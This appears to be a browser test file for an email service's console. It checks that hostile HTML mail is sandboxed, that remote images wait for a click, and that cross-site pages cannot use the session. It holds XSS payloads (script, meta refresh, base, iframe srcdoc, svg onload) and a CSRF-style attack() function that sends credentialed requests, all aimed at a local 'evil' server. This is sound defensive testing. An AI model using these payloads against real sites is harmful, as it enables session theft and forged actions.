import { afterAll, beforeAll, expect, test } from "bun:test";
import type { WorldInbox } from "../support/world.ts";
import { arrive, consoleOf, describeInBrowser, goTo, setUpConsole, signedIn } from "./support.ts";

/** The cookies that reached the stranger's server. */
const cookies: string[] = [];
/** The stranger's server under the host name of the service. */
const sisterOf = (service: string) => Object.assign(new URL("/cookie", service), { port: String(stranger.port) }).href;

/** The other requests that reached the stranger's server. */
const reached: string[] = [];
const stranger = Bun.serve({
  port: 0,
  fetch(request) {
    const { pathname } = new URL(request.url);
    if (pathname === "/page")
      return new Response("<p>A page of a stranger</p>", { headers: { "content-type": "text/html" } });
    if (pathname === "/cookie") cookies.push(request.headers.get("cookie") ?? "");
    else reached.push(pathname);
    return new Response("");
  },
});
const evil = `http://127.0.0.1:${stranger.port}`;

const hostile: readonly string[] = [
  `<script>top.location="${evil}/top"</script><script src="${evil}/s.js"></script><img src=x onerror="alert(1)">`,
  `<meta http-equiv=refresh content="0;url=${evil}/refresh"><base href="${evil}/" target=_top><a href="x">x</a>`,
  `<style>@import url(${evil}/css);body{background:url(${evil}/bg)}</style><div style="position:fixed;inset:0;z-index:9999">over</div>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="${evil}/o"></object><svg onload=alert(1)></svg>`,
  `<form action="${evil}/form"><button autofocus>Go</button></form><img src="${evil}/pixel"><link rel=stylesheet href="${evil}/l">`,
];

describeInBrowser("The console's walls", () => {
  const setup = setUpConsole();
  let ada: WorldInbox;
  beforeAll(async () => {
    ada = await setup.world.inbox("ada");
  }, 60_000);
  afterAll(() => stranger.stop(true));

  test("keep hostile mail from requests, dialogs and navigation, and the page stays usable", async () => {
    const { page } = await signedIn(setup);
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    for (const html of hostile) {
      const threadId = await arrive(setup.world, ada, { subject: "Look", html: `${html}<p>the end</p>` });
      await goTo(page, `threads/${threadId}`);
      await page.frameLocator(".paper iframe").getByText("the end").waitFor();
    }
    await page.getByRole("button", { name: "Mark read" }).click();
    await page.getByRole("button", { name: "Mark unread" }).waitFor();
    expect(page.url()).toStartWith(consoleOf(setup.world).href);
    expect([dialogs, reached]).toEqual([[], []]);
    const sandbox = await page.locator(".paper iframe").getAttribute("sandbox");
    expect(sandbox).not.toContain("allow-scripts");
    expect(sandbox).not.toContain("allow-top-navigation");
  });

  test("show remote pictures only after a click, and only for this message", async () => {
    const threadId = await arrive(setup.world, ada, { subject: "Picture", html: `<p>it</p><img src="${evil}/seen">` });
    const { page } = await signedIn(setup, `threads/${threadId}`);
    await page.frameLocator(".paper iframe").getByText("it").waitFor();
    expect(reached).toEqual([]);
    const asked = page.waitForRequest(`${evil}/seen`);
    await page.getByRole("button", { name: "Show remote images (1)" }).click();
    await asked;
  });

  test("keep pages of a sister domain, pages without an origin and pictures from changing or reading anything", async () => {
    // Both hosts are of one site, so the browser sends the cookie.
    const service = `http://app.inboxd.localhost:${setup.world.service.apiUrl.port}`;
    const { page } = await setup.browser.open(`${service}/console/`);
    await page.fill("#key", setup.world.apiKey);
    await page.press("#key", "Enter");
    await page.locator("#navigation").waitFor({ state: "attached" });
    const before = (await setup.world.api("/v1/inboxes")).body.total;
    await page.goto(`http://evil.inboxd.localhost:${stranger.port}/page`);
    const answers: string[] = [];
    page.on("response", (response) => {
      const { pathname, origin } = new URL(response.url());
      if (origin === service) answers.push(`${response.request().method()} ${pathname} ${response.status()}`);
    });
    // Cookies ignore the port, so a server with the same host name sees what the browser sends.
    await page.evaluate((address) => fetch(address, { mode: "no-cors", credentials: "include" }), sisterOf(service));
    expect(cookies.at(-1)).toContain("inboxd=ibt_");
    await page.evaluate(attack, service);
    expect(answers.filter((answer) => !/ 40[13]$/.test(answer))).toEqual([]);
    expect(new Set(answers.map((answer) => answer.split(" ", 2).join(" ")))).toEqual(
      new Set(["GET /v1/inboxes", "POST /v1/inboxes", "POST /console/session"]),
    );
    expect((await setup.world.api("/v1/inboxes")).body.total).toBe(before);
    await page.goto(`${service}/console/`);
    await page.getByRole("heading", { name: "Overview" }).waitFor();
  });

  test("keep a foreign page from changing or reading anything with the session of its visitor", async () => {
    const { page } = await signedIn(setup);
    await page.goto(`${evil}/page`);
    const { origin } = setup.world.service.apiUrl;
    const read = await page.evaluate(async (service) => {
      const answers: string[] = [];
      const body = JSON.stringify({ username: "stolen" });
      for (const mode of ["no-cors", "cors"] as const) {
        for (const method of ["GET", "POST"]) {
          const init = { method, mode, credentials: "include", ...(method === "POST" && { body }) } as RequestInit;
          const answer = await fetch(`${service}/v1/inboxes`, init).then(
            (response) => response.text(),
            () => "",
          );
          answers.push(answer);
        }
      }
      return answers;
    }, origin);
    expect(read).toEqual(["", "", "", ""]);
    await page.evaluate((service) => {
      const form = Object.assign(document.createElement("form"), { method: "post", action: `${service}/v1/inboxes` });
      document.body.append(form);
      form.submit();
    }, origin);
    await page.waitForURL(`${origin}/v1/inboxes`);
    expect((await setup.world.api("/v1/inboxes")).body.total).toBe(1);
  });
});

/** Runs in a page of a stranger: sends each kind of request that needs no preflight. */
async function attack(service: string): Promise<void> {
  const begun = { mode: "no-cors", credentials: "include" } as const;
  const key = JSON.stringify({ key: "key-of-the-first-account-in-tests" });
  await fetch(`${service}/v1/inboxes`, begun);
  await fetch(`${service}/v1/inboxes`, { ...begun, method: "POST" });
  await fetch(`${service}/v1/inboxes`, { ...begun, method: "POST", body: "{}" });
  await fetch(`${service}/console/session`, { ...begun, method: "POST", body: key });
  await new Promise((resolve) => {
    Object.assign(new Image(), { onload: resolve, onerror: resolve, src: `${service}/v1/inboxes` });
  });
  await new Promise((resolve) => {
    const script = document.createElement("script");
    Object.assign(script, { onload: resolve, onerror: resolve, src: `${service}/v1/inboxes` });
    document.body.append(script);
  });
  // A sandboxed frame has the origin null, and sends it.
  await new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    frame.srcdoc = `<script>
      const begun = { mode: "no-cors", credentials: "include", method: "POST" };
      fetch("${service}/v1/inboxes", begun).then(() => fetch("${service}/console/session", { ...begun, body: '${key}' }))
        .finally(() => parent.postMessage("done", "*"));
    </script>`;
    addEventListener("message", resolve, { once: true });
    document.body.append(frame);
  });
}
